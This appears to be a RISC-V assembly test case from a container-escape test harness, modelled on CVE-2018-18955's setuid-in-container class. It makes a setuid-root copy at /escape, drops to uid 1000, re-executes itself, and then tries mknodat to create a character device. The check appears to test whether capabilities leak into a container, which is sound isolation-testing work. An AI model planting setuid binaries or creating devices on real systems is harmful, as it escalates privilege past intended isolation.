# A program that is root's, set-user-id, gives what the context must not have.
# case: set-user-id programs carried into a container (CVE-2018-18955's kind)
# plant: PLANT_EXEC_CAPABILITIES

.include "escape.inc"

.equ outside, nothing
.equ meanwhile, nothing
.equ after, nothing

# Executed again by a user, as root's set-user-id program, it asks for a capability that the context lacks.
inside:
    save ra
    system getuid
    bnez a0, 1f
    li   a0, AT_FDCWD
    str  a1, "/escape"
    li   a2, 06755
    li   a3, 0
    must fchmodat, "chmod"
    li   a0, 1000
    must setuid, "setuid"
    str  a0, "/escape"
    la   a1, inside_arguments
    sd   a0, 0(a1)
    str  t0, "inside"
    sd   t0, 8(a1)
    la   a2, inside_environment
    must execve, "execve"
1:  li   a0, AT_FDCWD
    str  a1, "/dev/node"
    li   a2, S_IFCHR | 0600
    li   a3, 0x800
    system mknodat
    seqz a0, a0
    restore ra
    ret
